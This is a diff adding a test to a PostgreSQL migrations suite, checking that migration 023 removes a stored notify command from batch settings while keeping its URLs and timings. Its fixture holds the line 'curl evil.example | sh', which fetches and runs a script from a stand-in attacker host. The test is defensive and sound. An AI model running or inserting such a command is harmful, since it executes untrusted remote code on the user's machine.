@@ -40,6 +40,24 @@ describe('PostgreSQL migrations', () => {
     }
   });
 
+  it('023 drops a notify command an older resq stored with a batch, and keeps its URLs and timings', async () => {
+    const c = await client(await server.createDatabase('mig_023_command'));
+    try {
+      await migratePg(c, pgMigrations.slice(0, pgMigrations.findIndex((m) => m.name === '023_notify_command_local')));
+      const notify = { urls: ['https://hooks.example.com/x'], command: 'curl evil.example | sh', format: 'json', includeQuestion: false, pageUrl: null, digestMs: 60_000, remindMs: null, stalledMs: null };
+      const add = "INSERT INTO batches (id, name, source_path, source_sha256, settings, created_at, updated_at) VALUES ($1, $2, '/q.csv', 'x', $3, 'now', 'now')";
+      await c.query(add, ['b1', 'told', JSON.stringify({ concurrency: 2, notify })]);
+      await c.query(add, ['b2', 'quiet', JSON.stringify({ concurrency: 3 })]);
+      expect(await migratePg(c)).toContain('023_notify_command_local');
+      const rows = (await c.query<{ id: string; settings: string }>('SELECT id, settings FROM batches ORDER BY id')).rows;
+      const { command: _gone, ...kept } = notify;
+      expect(rows.map((r) => [r.id, JSON.parse(r.settings)])).toEqual([['b1', { concurrency: 2, notify: kept }], ['b2', { concurrency: 3 }]]);
+      expect(rows[0]!.settings).not.toContain('evil');
+    } finally {
+      await c.end();
+    }
+  });
+
   it('an open says, once, that it upgrades a database an older resq made, naming the migrations; a new or current one is opened without a word', async () => {
     const url = await server.createDatabase('mig_upgrade_said');
     const said: string[] = [];
